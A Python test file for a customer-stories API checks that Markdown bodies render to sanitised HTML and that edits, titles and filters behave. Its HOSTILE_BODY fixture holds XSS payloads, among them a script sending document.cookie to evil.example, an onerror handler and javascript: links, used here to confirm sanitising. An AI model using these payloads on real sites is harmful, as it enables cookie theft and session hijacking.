"""Narratives through the API: customer stories in Markdown whose HTML is always sanitised."""

from __future__ import annotations

from tests.api.helpers import field_errors
from tests.evidence.helpers import assert_inert, create, elements_of, fetch, listed

NARRATIVE_FIELDS = {"id", "title", "body", "body_html", "participant", "participant_id", "told_on", "tags",
                    "step_ids", "created_at", "updated_at", "version"}

HOSTILE_BODY = """# Lena's first plant

She **loved** the fig and read *every* guide on [the care page](https://example.org/care).

- watered it daily
- moved it to the window

<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src=x onerror=alert(1)>
[x](javascript:alert(1))
<a href="javascript:alert(2)">more</a>
<iframe src="https://evil.example"></iframe>
<p style="position:fixed;top:0;left:0">overlay</p>
"""


def test_an_editor_adds_a_story_and_reads_it_back(editor_api, plant_map):
    story = create(editor_api, "narratives", title="Lena's first plant", body="She **loved** the fig.",
                   participant="P04", told_on="2026-02-01", tags=["Skötsel"],
                   step_ids=[plant_map.step("Unpack the plants")])

    assert set(story) == NARRATIVE_FIELDS
    assert (story["title"], story["body"], story["participant"], story["told_on"]) == (
        "Lena's first plant", "She **loved** the fig.", "P04", "2026-02-01")
    assert story["body_html"].strip() == "<p>She <strong>loved</strong> the fig.</p>"
    assert (story["tags"], story["step_ids"], story["version"]) == (
        ["Skötsel"], [plant_map.step("Unpack the plants")], 1)
    assert fetch(editor_api, "narratives", story["id"]) == story


def test_a_hostile_body_is_kept_as_typed_but_renders_inert(editor_api):
    story = create(editor_api, "narratives", title="Lena", body=HOSTILE_BODY)

    assert story["body"] == HOSTILE_BODY.strip()
    html = story["body_html"]
    assert_inert(html)
    tags = [tag for tag, _ in elements_of(html)]
    assert {"h1", "strong", "em", "ul", "li", "a"} <= set(tags)
    assert [attrs["href"] for tag, attrs in elements_of(html) if tag == "a"] == ["https://example.org/care"]


def test_the_list_and_an_edit_render_inert_too(editor_api):
    story = create(editor_api, "narratives", title="Lena", body="Harmless.")

    edited = editor_api.patch(f"/api/v1/narratives/{story['id']}", json={"body": HOSTILE_BODY, "version": 1})

    assert edited.status_code == 200, edited.json
    assert_inert(edited.json["body_html"])
    (item,) = listed(editor_api, "narratives")
    assert_inert(item["body_html"])
    assert "<h1>" in item["body_html"]


def test_a_story_needs_a_title(editor_api):
    fields = field_errors(editor_api.post("/api/v1/workspaces/alpha/narratives", json={"body": "No title"}))

    assert set(fields) == {"title"}


def test_a_blank_title_is_refused_on_edit(editor_api):
    story = create(editor_api, "narratives", title="Lena")

    fields = field_errors(editor_api.patch(f"/api/v1/narratives/{story['id']}", json={"title": "   ", "version": 1}))

    assert "title" in fields
    assert fetch(editor_api, "narratives", story["id"])["title"] == "Lena"


def test_narratives_filter_by_tag_participant_step_and_date(editor_api, plant_map):
    create(editor_api, "narratives", title="Early", participant="P01", told_on="2026-01-05", tags=["Leverans"],
           step_ids=[plant_map.step("Pay")])
    create(editor_api, "narratives", title="Late", participant="P02", told_on="2026-04-05", tags=["Chatt"],
           step_ids=[plant_map.step("Ask in the chat")])

    def titles(query):
        return {n["title"] for n in listed(editor_api, "narratives", query)}

    assert titles("tag=LEVERANS") == {"Early"}
    assert titles("participant=P02") == {"Late"}
    assert titles(f"step={plant_map.step('Pay')}") == {"Early"}
    assert titles(f"journey={plant_map.id}") == {"Early", "Late"}
    assert titles("from=2026-02-01") == {"Late"}
    assert titles("to=2026-02-01") == {"Early"}
    assert [n["title"] for n in listed(editor_api, "narratives")] == ["Late", "Early"]
